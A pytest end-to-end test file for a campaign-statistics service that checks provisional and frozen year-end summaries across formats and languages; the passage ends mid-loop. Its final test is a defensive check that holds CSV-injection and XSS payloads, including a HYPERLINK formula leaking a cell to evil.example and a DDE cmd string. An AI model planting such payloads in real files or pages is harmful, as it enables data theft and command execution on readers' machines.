"""The year-end summary over HTTP and from the CLI: provisional before close, frozen at close, in every format.

One month of reports is posted (as the admin, from several provinces) whose national totals, after a
correction and a retraction, exercise every 概数 idiom of SPEC §5. Every expected figure below is
written out by hand or summed here from the events the test sent, never read back from the service.
"""

import asyncio
import csv
import io
import json
import os
import re
import sys
from dataclasses import dataclass
from decimal import Decimal
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from aiohttp.test_utils import TestClient, TestServer

from projections.summary import percent
from services.app import create_app
from tests.conftest import Database, Keys
from tests.conftest import test_settings as app_settings
from tests.e2e.wire import eventually, expect_problem, logged, read_log
from tests.factories import CAMPAIGN, correction, event, retraction

QMSTATS = Path(sys.executable).with_name("qmstats")
NEXT_YEAR = {"id": "2018", "theme": "全面提升质量 推动高质量发展 2018", "starts_on": "2018-09-01",
             "ends_on": "2018-09-30"}
FORMATS = {"json": "application/json", "md": "text/markdown", "html": "text/html", "csv": "text/csv"}
LANGS = ("zh", "en")

# The 31 mainland provinces (SPEC §3: coverage is of those expected).
MAINLAND = sorted(f"{p}0000" for p in (
    "11", "12", "13", "14", "15", "21", "22", "23", "31", "32", "33", "34", "35", "36", "37", "41", "42", "43",
    "44", "45", "46", "50", "51", "52", "53", "54", "61", "62", "63", "64", "65"))

# SPEC §1's catalogue, written out: event type → data field → metric.
FIELDS: dict[str, dict[str, str]] = {
    "raid_conducted": {"dens_busted": "dens_busted", "personnel": "personnel", "vehicles": "vehicles",
                       "cases": "cases", "seized_value_yuan": "seized_value_yuan"},
    "goods_destroyed": {"destroyed_value_yuan": "destroyed_value_yuan"},
    "inspection_completed": {"batches_sampled": "batches_sampled", "batches_passed": "batches_passed",
                             "enterprises": "inspected_enterprises"},
    "publicity_held": {"participants": "participants", "quality_workers": "quality_workers", "booths": "booths",
                       "consultations": "consultations"},
    "materials_distributed": {"copies": "materials_copies"},
    "media_reported": {"reports": "media_reports"},
    "lab_open_day_held": {"labs": "labs_opened", "visitors": "lab_visitors"},
    "pledge_signed": {"enterprises": "pledged_enterprises"},
    "brand_awarded": {"enterprises": "awarded_enterprises", "products": "awarded_products"},
}
METRICS = [m for fields in FIELDS.values() for m in fields.values()]
MONEY = {"seized_value_yuan", "destroyed_value_yuan"}
UNITS = {"dens_busted": "个", "seized_value_yuan": "元", "personnel": "人次", "vehicles": "台次", "cases": "起",
         "destroyed_value_yuan": "元", "batches_sampled": "批次", "batches_passed": "批次",
         "inspected_enterprises": "家次", "participants": "人次", "quality_workers": "人次", "booths": "个",
         "consultations": "件", "materials_copies": "份", "media_reports": "篇次", "labs_opened": "个",
         "lab_visitors": "人次", "pledged_enterprises": "家", "awarded_enterprises": "家", "awarded_products": "个"}

# What the month adds up to, by hand; metrics not listed stay at zero.
NATIONAL: dict[str, int | Decimal] = {
    "dens_busted": 1032, "seized_value_yuan": Decimal("350000000.00"), "personnel": 98765, "vehicles": 13150,
    "cases": 13000, "destroyed_value_yuan": Decimal("193500000.00"), "batches_sampled": 20192,
    "batches_passed": 18476, "inspected_enterprises": 19124, "participants": 2030000, "consultations": 352400000,
    "materials_copies": 2968000, "labs_opened": 35, "lab_visitors": 100500,
}
# metric → (JSON value, phrase_zh, qualifier, interval, sentence_zh); written out from SPEC §5 by hand. Each
# sentence_zh stands alone (a clause such as "其中合格…" reads only inside the paragraph).
FIGURES: dict[str, tuple[int | str, str, str | None, list[str], str]] = {
    "dens_busted": (1032, "上千", "上千", ["1000", "2000"], "全国共捣毁黑窝点上千个"),
    "seized_value_yuan": ("350000000.00", "3.5亿", None, ["350000000", "350000000"],
                          "全国共查获假冒伪劣产品货值3.5亿元"),
    "personnel": (98765, "近10万", "近", ["95000", "100000"], "全国共出动执法人员近10万人次"),
    "vehicles": (13150, "13000余", "余", ["13000", "14000"], "全国共出动执法车辆13000余台次"),
    "cases": (13000, "13000", None, ["13000", "13000"], "全国共立案查处案件13000起"),
    "destroyed_value_yuan": ("193500000.00", "近2亿", "近", ["190000000", "200000000"],
                             "全国共集中销毁假冒伪劣产品货值近2亿元"),
    "batches_sampled": (20192, "20000余", "余", ["20000", "21000"], "全国共抽查产品20000余批次"),
    "batches_passed": (18476, "18000余", "余", ["18000", "19000"], "全国共有18000余批次产品抽查合格"),
    "inspected_enterprises": (19124, "近20000", "近", ["19000", "20000"], "全国共涉及受检企业近20000家次"),
    "participants": (2030000, "200多万", "多", ["2000000", "2100000"], "全国共有200多万人次群众参加宣传咨询活动"),
    "quality_workers": (0, "0", None, ["0", "0"], "全国共有质量工作者0人次参与"),
    "booths": (0, "0", None, ["0", "0"], "全国共设立咨询台0个"),
    "consultations": (352400000, "约3.5亿", "约", ["345000000", "355000000"], "全国共受理咨询投诉约3.5亿件"),
    "materials_copies": (2968000, "近300万", "近", ["2850000", "3000000"], "全国共发放宣传材料近300万份"),
    "media_reports": (0, "0", None, ["0", "0"], "全国共新闻媒体报道0篇次"),
    "labs_opened": (35, "35", None, ["35", "35"], "全国共开放实验室35个"),
    "lab_visitors": (100500, "10万余", "余", ["100000", "110000"], "全国共接待参观群众10万余人次"),
    "pledged_enterprises": (0, "0", None, ["0", "0"], "全国共有0家企业签署质量诚信承诺"),
    "awarded_enterprises": (0, "0", None, ["0", "0"], "全国共表彰获奖企业0家"),
    "awarded_products": (0, "0", None, ["0", "0"], "全国共评出名牌产品0个"),
}
REPORTED = ["110000", "330000", "440000", "510000", "650000"]
ZH_HEAD = "2017年全国“质量月”活动以“全面提升质量 推动高质量发展”为主题，于2017年9月1日至9月30日举行。"
ZH_BODY = [
    "全国31个省（区、市）中有5个报送了活动数据。",
    "全国共捣毁黑窝点上千个，查获假冒伪劣产品货值3.5亿元，出动执法人员近10万人次，出动执法车辆13000余台次，"
    "立案查处案件13000起。",
    "集中销毁假冒伪劣产品货值近2亿元。",
    "抽查产品20000余批次，其中合格18000余批次，合格率91.5%，涉及受检企业近20000家次。",
    "200多万人次群众参加宣传咨询活动，受理咨询投诉约3.5亿件，发放宣传材料近300万份。",
    "开放实验室35个，接待参观群众10万余人次。",
]

Fact = tuple[str, str, dict[str, Any]]
"""(type, region, data) of a fact as it stands after corrections."""


def _fact(type_: str, region: str, day: int, **data: Any) -> dict[str, Any]:
    return event(type_, region=region, occurred_at=f"2017-09-{day:02d}T10:00:00+08:00", data=data)


def _raid(region: str, day: int, dens: int, personnel: int, vehicles: int, cases: int, seized: str) -> dict[str, Any]:
    return _fact("raid_conducted", region, day, dens_busted=dens, personnel=personnel, vehicles=vehicles,
                 cases=cases, seized_value_yuan=seized, category="liquor")


def _publicity(region: str, day: int, participants: int, consultations: int) -> dict[str, Any]:
    return _fact("publicity_held", region, day, participants=participants, quality_workers=0, booths=0,
                 consultations=consultations)


def _sums(facts: dict[str, Fact]) -> tuple[dict[str, int | Decimal], dict[str, dict[str, int | Decimal]]]:
    """National and per-province totals of the facts, summed here (money as Decimal to the fen)."""
    def zero() -> dict[str, int | Decimal]:
        return {m: Decimal("0.00") if m in MONEY else 0 for m in METRICS}

    national = zero()
    provinces: dict[str, dict[str, int | Decimal]] = {code: zero() for code in MAINLAND}
    for type_, region, data in facts.values():
        for field, metric in FIELDS[type_].items():
            value = Decimal(data[field]) if metric in MONEY else data[field]
            national[metric] += value
            provinces[region[:2] + "0000"][metric] += value
    return national, provinces


def _shown(metric: str, value: int | Decimal) -> str:
    """How an exact value is written in md, csv and html: counts as digits, money to the fen."""
    return f"{value:.2f}" if metric in MONEY else str(value)


async def _post(client: TestClient, keys: Keys, *sent: dict[str, Any]) -> int:
    response = await client.post("/v1/events", json={"events": list(sent)}, headers=keys.admin)
    assert response.status == 201, await response.text()
    last: int = (await response.json())["last_position"]
    return last


async def _head(client: TestClient, keys: Keys) -> int:
    response = await client.get("/v1/audit/head", headers=keys.auditor)
    assert response.status == 200, await response.text()
    position: int = (await response.json())["position"]
    return position


async def _projected(client: TestClient, keys: Keys, campaign: str = "2017") -> int:
    """Wait (at most 15 s) until the dashboard's position reaches the head of the log; return it."""
    head = await _head(client, keys)
    for _ in range(750):
        response = await client.get(f"/v1/campaigns/{campaign}/dashboard", headers=keys.viewer)
        assert response.status == 200, await response.text()
        if (await response.json())["position"] == head:
            return head
        await asyncio.sleep(0.02)
    raise AssertionError(f"the projection did not reach position {head} in 15 s")


async def _get(client: TestClient, headers: dict[str, str], fmt: str = "json", lang: str = "zh",
               campaign: str = "2017") -> bytes:
    response = await client.get(f"/v1/campaigns/{campaign}/summary", params={"format": fmt, "lang": lang},
                                headers=headers)
    assert response.status == 200, await response.text()
    assert response.content_type == FORMATS[fmt]
    assert response.charset == "utf-8"
    return await response.read()


async def _json(client: TestClient, keys: Keys) -> dict[str, Any]:
    body: dict[str, Any] = json.loads(await _get(client, keys.viewer))
    return body


async def _text(client: TestClient, keys: Keys, fmt: str, lang: str = "zh") -> str:
    return (await _get(client, keys.viewer, fmt, lang)).decode()


async def _every_rendering(client: TestClient, keys: Keys) -> dict[tuple[str, str], bytes]:
    return {(fmt, lang): await _get(client, keys.viewer, fmt, lang) for fmt in FORMATS for lang in LANGS}


def _sentences(text: str) -> list[str]:
    parts = text.split("。")
    assert parts[-1] == "", f"the text ends with 。: {text!r}"
    return [p + "。" for p in parts[:-1]]


@dataclass(frozen=True)
class Month:
    """The reports of September 2017 as they stand after corrections, and the position they reach."""

    facts: dict[str, Fact]
    position: int


@dataclass(frozen=True)
class Closed:
    """The month, closed: ``position`` is the close event's."""

    facts: dict[str, Fact]
    position: int


@pytest.fixture
async def month(client: TestClient, keys: Keys, campaign: dict[str, str]) -> Month:
    """Post the month's reports from six provinces, then a correction batch, and wait for the projection."""
    wrong_raid = _raid("440103", 12, 3320, 28765, 4150, 4000, "12999999.25")
    late_publicity = _publicity("320102", 20, 5, 1)  # filed under Jiangsu by mistake: really Sichuan's
    duplicate_raid = _raid("620102", 15, 50, 600, 80, 40, "900000.00")  # sent twice: retracted
    sent = [
        _raid("110101", 5, 300, 30000, 4000, 4000, "120000000.25"),
        _raid("330102", 8, 400, 40000, 5000, 5000, "100000000.50"),
        wrong_raid,
        duplicate_raid,
        _fact("goods_destroyed", "330102", 26, destroyed_value_yuan="93500000.10", category="liquor"),
        _fact("goods_destroyed", "510104", 27, destroyed_value_yuan="99999999.90", category="toys"),
        _fact("inspection_completed", "330102", 10, batches_sampled=10000, batches_passed=9100, enterprises=9000,
              category="mooncake"),
        _fact("inspection_completed", "440103", 11, batches_sampled=10192, batches_passed=9376,
              enterprises=10124, category="toys"),
        _publicity("110101", 16, 1000000, 200000000),
        late_publicity,
        _fact("materials_distributed", "650102", 3, copies=1968000),
        _fact("materials_distributed", "330102", 4, copies=1000000),
        _fact("lab_open_day_held", "330102", 17, labs=20, visitors=60500),
        _fact("lab_open_day_held", "440103", 18, labs=15, visitors=40000),
    ]
    await _post(client, keys, *sent)
    right_raid = {"dens_busted": 332, "personnel": 28765, "vehicles": 4150, "cases": 4000,
                  "seized_value_yuan": "129999999.25", "category": "liquor"}
    right_publicity = {"participants": 1030000, "quality_workers": 0, "booths": 0, "consultations": 152400000}
    await _post(client, keys,
                correction(wrong_raid["event_id"], right_raid, region="440104",
                           occurred_at="2017-09-12T10:00:00+08:00"),
                correction(late_publicity["event_id"], right_publicity, region="510104",
                           occurred_at="2017-09-20T10:00:00+08:00"),
                retraction(duplicate_raid["event_id"], reason="reported twice"))
    facts: dict[str, Fact] = {e["event_id"]: (e["type"], e["region"], e["data"]) for e in sent}
    facts[wrong_raid["event_id"]] = ("raid_conducted", "440104", right_raid)
    facts[late_publicity["event_id"]] = ("publicity_held", "510104", right_publicity)
    del facts[duplicate_raid["event_id"]]
    national, _ = _sums(facts)
    assert national == {m: NATIONAL.get(m, Decimal("0.00") if m in MONEY else 0) for m in METRICS}
    return Month(facts, await _projected(client, keys))


@pytest.fixture
async def closed(client: TestClient, keys: Keys, month: Month) -> Closed:
    response = await client.post("/v1/campaigns/2017/close", json={"note": "月末数据已齐"}, headers=keys.admin)
    assert response.status == 201, await response.text()
    view = await response.json()
    assert view["status"] == "closed"
    # The final summary names the signed checkpoint covering the close: wait the moment until one does.
    await logged(client, keys.viewer, view["event"]["position"])

    async def scored() -> bool:  # and its quality block is final once the flags projection reached the close
        return bool((await _json(client, keys))["quality"]["scored_to"] >= view["event"]["position"])

    await eventually(scored, seconds=10)
    return Closed(month.facts, view["event"]["position"])


# --- Before close: provisional, at the projection's position. ---


async def test_before_close_the_summary_is_provisional_at_the_dashboards_position(
        client: TestClient, keys: Keys, month: Month) -> None:
    summary = await _json(client, keys)
    dashboard = await (await client.get("/v1/campaigns/2017/dashboard", headers=keys.viewer)).json()
    assert summary["final"] is False
    assert summary["close_number"] is None
    assert summary["position"] == dashboard["position"] == month.position
    assert {m: f["value"] for m, f in summary["figures"].items()} == {
        m: f["value"] for m, f in dashboard["metrics"].items()}
    assert _sentences(summary["text_zh"]) == [ZH_HEAD, *ZH_BODY]
    assert summary["note_zh"] == ("数据说明：临时数据。活动尚未结束，数字还会变化；"
                                  f"依据事件日志第1至{month.position}条记录。")
    assert f"(event log positions 1 to {month.position})" in summary["note_en"]
    assert summary["reopened"] is False

    md_zh, md_en = await _text(client, keys, "md"), await _text(client, keys, "md", "en")
    assert md_zh.splitlines()[0] == "# 2017年全国质量月活动总结（临时）"
    [note_line] = [line for line in md_zh.splitlines() if line.startswith(f"> {summary['note_zh']}")]
    assert "数据质量" in note_line  # how many data-quality flags are open (issue 15), after the status note
    assert "(provisional)" in md_en.splitlines()[0]
    html_zh, html_en = await _text(client, keys, "html"), await _text(client, keys, "html", "en")
    assert "<title>2017年全国质量月活动总结（临时）</title>" in html_zh
    assert "临时数据" in html_zh
    assert "About these figures: provisional." in html_en
    rows = _csv(await _text(client, keys, "csv", "en"))
    assert {(r["status"], r["log position"]) for r in rows} == {("provisional", str(month.position))}


# --- Closed: final, frozen at the close. ---


async def test_close_freezes_the_final_summary_at_the_close_position(
        client: TestClient, keys: Keys, closed: Closed) -> None:
    summary = await _json(client, keys)
    assert summary["campaign"] == "2017"
    assert summary["theme"] == CAMPAIGN["theme"]
    assert (summary["starts_on"], summary["ends_on"]) == ("2017-09-01", "2017-09-30")
    assert summary["final"] is True
    assert summary["position"] == closed.position
    assert summary["close_number"] == 1
    # Gansu's only report was retracted and Jiangsu's corrected into Sichuan: neither has reported.
    assert summary["coverage"] == {"reported": 5, "expected": 31, "provinces_reported": REPORTED,
                                   "provinces_missing": [p for p in MAINLAND if p not in REPORTED]}
    rate = summary["pass_rate"]
    assert {k: rate[k] for k in ("ratio", "percent", "passed", "sampled")} == {
        "ratio": "0.9150158479", "percent": "91.5%", "passed": 18476, "sampled": 20192}
    assert sum(c["sampled"] for c in rate["by_category"].values()) == 20192
    md_zh = await _text(client, keys, "md")
    assert md_zh.splitlines()[0] == "# 2017年全国质量月活动总结"
    assert (f"> 数据说明：最终数据，于活动第1次结束时冻结，依据事件日志第1至{closed.position}条记录，此后不再变化；"
            "每个数字均可由回放事件日志复核。数据质量：") in md_zh
    assert "临时" not in md_zh
    md_en = await _text(client, keys, "md", "en")
    assert f"final, frozen at close number 1 (event log positions 1 to {closed.position})" in md_en
    assert "provisional" not in md_en


async def test_the_zh_text_reads_like_the_report_sentence_by_sentence(
        client: TestClient, keys: Keys, closed: Closed) -> None:
    text = (await _json(client, keys))["text_zh"]
    assert _sentences(text) == [ZH_HEAD, *ZH_BODY]
    for absent in ("质量工作者", "咨询台", "新闻媒体", "承诺", "获奖", "名牌", "约10万", "3亿5"):
        assert absent not in text, absent
    assert not re.search(r"\d,\d", text), "no thousands separators inside Chinese text"


async def test_every_figure_has_its_exact_value_beside_its_phrase(
        client: TestClient, keys: Keys, closed: Closed) -> None:
    figures = (await _json(client, keys))["figures"]
    assert list(figures) == METRICS
    for metric, (value, phrase, qualifier, interval, sentence) in FIGURES.items():
        figure = figures[metric]
        assert (figure["value"], figure["phrase_zh"], figure["qualifier"], figure["interval"],
                figure["sentence_zh"]) == (value, phrase, qualifier, interval, sentence), metric
        assert figure["unit"] == UNITS[metric], metric
        assert type(figure["value"]) is (str if metric in MONEY else int), metric


async def test_the_en_text_states_the_same_facts_with_exact_numbers(
        client: TestClient, keys: Keys, closed: Closed) -> None:
    en = (await _json(client, keys))["text_en"]
    assert en.startswith("Quality Month 2017, on the theme “全面提升质量 推动高质量发展”, ran from 1 to 30 September "
                         "2017. 5 of 31 provinces reported. Nationwide, ")
    for number in ("1,032 dens", "350,000,000.00 yuan", "98,765 enforcement officer", "13,150 enforcement vehicle",
                   "13,000 cases", "193,500,000.00 yuan", "20,192 product batches", "18,476 batches passed",
                   "19,124 enterprise inspections", "2,030,000 times", "352,400,000 consultations",
                   "2,968,000 copies", "35 laboratories", "100,500 visits",
                   "The spot-check pass rate was 91.5%."):
        assert number in en, number
    for absent in ("quality workers", "booths", "news reports", "pledges", "awards", "brand"):
        assert absent not in en, absent


def _csv(text: str) -> list[dict[str, str]]:
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


async def test_the_csv_numbers_equal_our_own_sums(client: TestClient, keys: Keys, closed: Closed) -> None:
    rows = _csv(await _text(client, keys, "csv", "en"))
    national, provinces = _sums(closed.facts)
    assert {(r["status"], r["log position"]) for r in rows} == {("final", str(closed.position))}

    nation = [r for r in rows if r["scope"] == "national"]
    assert [r["metric code"] for r in nation] == [*METRICS, "pass_rate", "open_quality_flags"]
    for row in nation[:-2]:
        metric = row["metric code"]
        assert (row["region code"], row["region"]) == ("000000", "China"), metric
        assert row["value"] == _shown(metric, national[metric]), metric
        assert row["round figure (zh)"] == FIGURES[metric][1], metric
    # A pass rate is its exact ratio (the one ratio rule), the report's percentage beside it.
    assert (nation[-2]["value"], nation[-2]["unit"], nation[-2]["round figure (zh)"]) == ("0.9150158479", "", "91.5%")
    quality = json.loads(await _get(client, keys.viewer))["quality"]  # and how many data-quality flags are open
    assert (nation[-1]["value"], nation[-1]["round figure (zh)"]) == (str(quality["open_flags"]),
                                                                      quality["sentence_en"])

    by_province = [r for r in rows if r["scope"] == "province" and r["metric code"] != "pass_rate"]
    categories = [r for r in rows if r["scope"] == "product category"]
    assert len(rows) == len(nation) + len(categories) + len(by_province) + len(MAINLAND)
    assert sorted({r["region code"] for r in by_province}) == MAINLAND
    assert len(by_province) == len(MAINLAND) * len(METRICS)
    for row in by_province:
        assert row["value"] == _shown(row["metric code"], provinces[row["region code"]][row["metric code"]]), row
    zhejiang = {r["metric code"]: r["value"] for r in by_province if r["region code"] == "330000"}
    assert (zhejiang["seized_value_yuan"], zhejiang["destroyed_value_yuan"]) == ("100000000.50", "93500000.10")
    sichuan = {r["metric code"]: r["value"] for r in by_province if r["region code"] == "510000"}
    assert (sichuan["participants"], sichuan["consultations"]) == ("1030000", "152400000")
    assert {r["value"] for r in by_province if r["region code"] in ("320000", "620000")} == {"0", "0.00"}
    zh = _csv(await _text(client, keys, "csv", "zh"))
    assert [r["数值"] for r in zh] == [r["value"] for r in rows]
    assert zh[0]["地区"] == "全国"


async def test_the_json_provinces_equal_our_own_sums(client: TestClient, keys: Keys, closed: Closed) -> None:
    provinces = (await _json(client, keys))["provinces"]
    _, expected = _sums(closed.facts)
    # Like the md, html and csv tables: every expected province, whether or not (or no longer) it has figures.
    assert list(provinces) == MAINLAND
    for code, figures in provinces.items():
        assert figures == {m: _shown(m, v) if m in MONEY else v for m, v in expected[code].items()}, code


def _md_table(md: str) -> dict[str, list[str]]:
    """The per-province table of the Markdown: code → cells after the name."""
    table = {}
    for line in md.splitlines():
        match = re.fullmatch(r"\| [^|]+ \((\d{6})\) \|(.*)\|", line)
        if match:
            table[match[1]] = [cell.strip() for cell in match[2].split("|")]
    return table


class _Page(HTMLParser):
    """What a reader of the HTML sees: hover titles on the text's phrases, and the table rows."""

    def __init__(self) -> None:
        super().__init__()
        self.in_text = False
        self.title: str | None = None
        self.hovers: list[tuple[str, str]] = []
        self.tables: list[list[list[str]]] = []
        self.cell: list[str] | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        attributes = dict(attrs)
        if tag == "p" and attributes.get("class") == "text":
            self.in_text = True
        elif self.in_text and attributes.get("title"):
            self.title = attributes["title"]
        elif tag == "table":
            self.tables.append([])
        elif tag == "tr":
            self.tables[-1].append([])
        elif tag in ("td", "th"):
            self.cell = []

    def handle_endtag(self, tag: str) -> None:
        if tag == "p":
            self.in_text = False
        elif tag in ("td", "th") and self.cell is not None:
            self.tables[-1][-1].append("".join(self.cell))
            self.cell = None

    def handle_data(self, data: str) -> None:
        if self.title is not None:
            self.hovers.append((data, self.title))
            self.title = None
        if self.cell is not None:
            self.cell.append(data)


async def test_md_and_html_carry_the_province_table_and_the_html_stands_alone(
        client: TestClient, keys: Keys, closed: Closed) -> None:
    _, provinces = _sums(closed.facts)
    md = await _text(client, keys, "md")
    table = _md_table(md)
    assert list(table) == MAINLAND
    for code, cells in table.items():
        assert cells == [_shown(m, provinces[code][m]) for m in METRICS], code
    assert _sentences(md.splitlines()[4]) == [ZH_HEAD, *ZH_BODY]

    page = await _text(client, keys, "html")
    assert page.lower().startswith("<!doctype html>")
    assert page.count("<html") == page.count("</html>") == 1
    assert not re.search(r"""(?:src|href)\s*=\s*["']?\s*(?:https?:)?//""", page, flags=re.IGNORECASE)
    assert not re.search(r"<link\b|<script\b[^>]*\bsrc\b|@import|url\(", page, flags=re.IGNORECASE)
    assert "@media print" in page
    parsed = _Page()
    parsed.feed(page)
    hovers = dict(parsed.hovers)
    shown = {metric: (value, phrase) for metric, (value, phrase, *_) in FIGURES.items() if value != 0}
    for metric, (value, phrase) in shown.items():
        assert phrase in hovers, metric
        assert str(value) in hovers[phrase], (metric, hovers[phrase])
    assert len(parsed.hovers) == len(shown)
    province_tables = [table for table in parsed.tables if len(table) == 1 + len(MAINLAND)]
    assert len(province_tables) == 3
    zhejiang = [next(row for row in table if row[0] == "浙江省")[1:] for table in province_tables]
    heads = [table[0][1:] for table in province_tables]
    shown_values = dict(zip([h for head in heads for h in head], [v for row in zhejiang for v in row], strict=True))
    assert shown_values["捣毁窝点个"] == f"{provinces['330000']['dens_busted']:,}"
    assert shown_values["查获货值万元"] == f"{provinces['330000']['seized_value_yuan'] / 10000:,.2f}"
    zj = provinces["330000"]
    assert shown_values["合格率"] == (percent(Decimal(zj["batches_passed"]), Decimal(zj["batches_sampled"])) or "—")
    national_table = parsed.tables[0]
    assert national_table[-1][:2] == ["抽检合格率", "91.5%"]


# --- While closed: nothing for the campaign is stored; the summary never changes. ---


async def test_a_closed_campaign_refuses_facts_corrections_and_retractions(
        client: TestClient, keys: Keys, closed: Closed) -> None:
    before = await read_log(client, keys)
    target = next(iter(closed.facts))
    refused = [
        _raid("330102", 29, 1, 1, 1, 1, "1.00"),
        correction(target, {"dens_busted": 1, "personnel": 1, "vehicles": 1, "cases": 1,
                            "seized_value_yuan": "1.00", "category": "liquor"}, region="110101"),
        retraction(target, reason="never happened"),
    ]
    for sent in refused:
        response = await client.post("/v1/events", json=sent, headers=keys.admin)
        await expect_problem(response, 409, "campaign-closed", sent["type"])
    assert (await client.post("/v1/campaigns", json=NEXT_YEAR, headers=keys.admin)).status == 201
    other = event(campaign="2018", occurred_at="2018-09-08T10:00:00+08:00")
    mixed = await client.post("/v1/events", json={"events": [other, refused[0]]}, headers=keys.admin)
    await expect_problem(mixed, 409, "campaign-closed", "a batch with one event of the closed campaign")
    # A correction cannot slip in through the open campaign either.
    sneaky = correction(target, refused[1]["data"]["replacement"], campaign="2018",
                        occurred_at="2018-09-08T10:00:00+08:00")
    await expect_problem(await client.post("/v1/events", json=sneaky, headers=keys.admin), 422, "validation-failed")
    after = await read_log(client, keys)
    assert [e["type"] for e in after[len(before):]] == ["campaign_opened"]
    assert after[:len(before)] == before
    accepted = await client.post("/v1/events", json=other, headers=keys.admin)
    assert accepted.status == 201, await accepted.text()


async def test_the_final_summary_is_the_same_byte_for_byte_after_later_activity(
        client: TestClient, keys: Keys, closed: Closed, database: Database) -> None:
    frozen = await _every_rendering(client, keys)
    assert await _every_rendering(client, keys) == frozen

    assert (await client.post("/v1/campaigns", json=NEXT_YEAR, headers=keys.admin)).status == 201
    # Enough later events that the frozen figures are refolded from the log, not read back from live tables.
    later = [event(campaign="2018", region="330102", occurred_at="2018-09-08T10:00:00+08:00")
             for _ in range(2 * closed.position)]
    await _post(client, keys, *later)
    refused = await client.post("/v1/events", json=_raid("330102", 29, 1, 1, 1, 1, "1.00"), headers=keys.admin)
    await expect_problem(refused, 409, "campaign-closed")
    head = await _projected(client, keys, "2018")
    assert head > 2 * closed.position

    assert await _every_rendering(client, keys) == frozen
    # A fresh service (nothing cached) computes the same bytes.
    async with TestClient(TestServer(create_app(app_settings(), database.service_url))) as fresh:
        assert await _every_rendering(fresh, keys) == frozen

    env = {k: v for k, v in os.environ.items() if not k.startswith("QMSTATS_")}
    env["QMSTATS_DATABASE_URL"] = database.admin_url
    for fmt, lang in (("md", "zh"), ("json", "zh")):
        proc = await asyncio.create_subprocess_exec(
            str(QMSTATS), "report", "--campaign", "2017", "--format", fmt, "--lang", lang, env=env,
            stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.PIPE)
        try:
            async with asyncio.timeout(30):
                out, err = await proc.communicate()
        except TimeoutError:
            proc.kill()
            await proc.wait()
            raise AssertionError("qmstats report did not finish in 30 s") from None
        assert proc.returncode == 0, err.decode()
        assert out == frozen[(fmt, lang)], fmt


# --- Reopen and close again. ---


async def test_reopening_makes_it_provisional_and_a_second_close_freezes_a_new_position(
        client: TestClient, keys: Keys, closed: Closed) -> None:
    reopened = await client.post("/v1/campaigns/2017/reopen", json={"note": "浙江省补报质量诚信承诺"},
                                 headers=keys.admin)
    assert reopened.status == 201, await reopened.text()
    await _post(client, keys, _fact("pledge_signed", "330102", 30, enterprises=2150))
    position = await _projected(client, keys)
    provisional = await _json(client, keys)
    assert (provisional["final"], provisional["close_number"], provisional["position"]) == (False, None, position)
    assert _sentences(provisional["text_zh"])[-1] == "2100余家企业签署质量诚信承诺。"
    assert "临时" in await _text(client, keys, "md")
    assert provisional["reopened"] is True
    assert "重新开启以更正数据（此前已结束1次）" in provisional["note_zh"]
    assert "活动尚未结束" not in provisional["note_zh"]
    assert "reopened after close number 1" in await _text(client, keys, "html", "en")

    again = await client.post("/v1/campaigns/2017/close", headers=keys.admin)
    assert again.status == 201, await again.text()
    second = (await again.json())["event"]["position"]
    assert second > closed.position
    final = await _json(client, keys)
    assert (final["final"], final["close_number"], final["position"]) == (True, 2, second)
    assert _sentences(final["text_zh"]) == [ZH_HEAD, *ZH_BODY, "2100余家企业签署质量诚信承诺。"]
    assert "于活动第2次结束时冻结" in final["note_zh"]
    figure = final["figures"]["pledged_enterprises"]
    assert (figure["value"], figure["phrase_zh"], figure["qualifier"]) == (2150, "2100余", "余")
    assert "2,150 enterprises signed quality pledges" in final["text_en"]
    md = await _text(client, keys, "md")
    assert f"> {final['note_zh']}{final['quality']['sentence_zh']}" in md.splitlines()
    assert "临时" not in md
    assert f"frozen at close number 2 (event log positions 1 to {second})" in await _text(client, keys, "html", "en")
    rows = _csv(await _text(client, keys, "csv"))
    assert {(r["数据状态"], r["日志位置"]) for r in rows} == {("最终", str(second))}


# --- Who may ask, and what. ---


async def test_summary_errors_and_roles(client: TestClient, keys: Keys, campaign: dict[str, str]) -> None:
    for role in ("viewer", "auditor", "admin"):
        assert await _get(client, getattr(keys, role)), role
    path = "/v1/campaigns/2017/summary"
    await expect_problem(await client.get("/v1/campaigns/1999/summary", headers=keys.viewer), 404, "not-found")
    for query in ({"format": "xml"}, {"lang": "fr"}, {"format": "pdf", "lang": "zh"}):
        response = await client.get(path, params=query, headers=keys.viewer)
        await expect_problem(response, 422, "invalid-parameter", query)
    await expect_problem(await client.get(path, headers=keys.reporter), 403, "forbidden")
    await expect_problem(await client.get(path), 401, "unauthenticated")


# --- Text from outside (the theme, free-text categories) is shown as written, never run. ---

HOSTILE_CATEGORIES = ('=HYPERLINK("http://evil.example/?leak="&A1,"details")', "+cmd|' /C calc'!A0", "-2+3",
                      "@SUM(A1:A9)", "<img src=x onerror=alert(1)>", "liquor | mooncake", "*bold* [link](http://x)")
HOSTILE_THEME = "=1+1 <b>质量</b> | 第一"


async def test_csv_cells_never_run_as_formulas_and_markdown_shows_text_as_written(
        client: TestClient, keys: Keys) -> None:
    opened = await client.post("/v1/campaigns", json=CAMPAIGN | {"theme": HOSTILE_THEME}, headers=keys.admin)
    assert opened.status == 201, await opened.text()
    await _post(client, keys, *(event("inspection_completed", data={
        "batches_sampled": 10, "batches_passed": 9, "enterprises": 1, "category": category})
        for category in HOSTILE_CATEGORIES))
    await _projected(client, keys)
    for lang in LANGS:
        rows = list(csv.reader(io.StringIO((await _text(client, keys, "csv", lang)).removeprefix("\ufeff"))))
        for row in rows:
            for cell in row:  # OWASP CSV injection: what a spreadsheet would evaluate
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (lang, cell)
        shown = {row[2] for row in rows[1:] if row[4] == "pass_rate" and row[1] == "000000"}
        for category in HOSTILE_CATEGORIES:
            assert ("'" + category if category[0] in "=+-@" else category) in shown, (lang, category, shown)

        markdown = await _text(client, keys, "md", lang)
        assert "<img" not in markdown, markdown
        assert "<b>" not in markdown, markdown
        heading = "按产品类别的抽检合格率" if lang == "zh" else "Pass rate by product category"
        table = markdown.split(heading, 1)[1].split("\n## ", 1)[0]
        rows_md = [line for line in table.splitlines() if line.startswith("| ") and "---" not in line][1:]
        assert len(rows_md) == len(HOSTILE_CATEGORIES), table
        for line in rows_md:  # four cells: an unescaped '|' in a category would make five
